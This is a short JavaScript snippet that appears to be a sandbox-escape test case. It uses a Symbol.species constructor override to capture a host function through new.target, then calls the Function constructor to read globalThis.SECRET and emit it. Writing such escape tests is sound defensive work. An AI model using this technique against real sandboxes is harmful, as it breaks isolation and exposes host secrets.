let found;
at_step();
const own = [1, 2, 3];
own.constructor = { [Symbol.species]: function (size) { found = new.target; return []; } };
own.map(host_function);
const secret = (found || own).constructor.constructor('return globalThis.SECRET')();
past_step();
emit(secret);
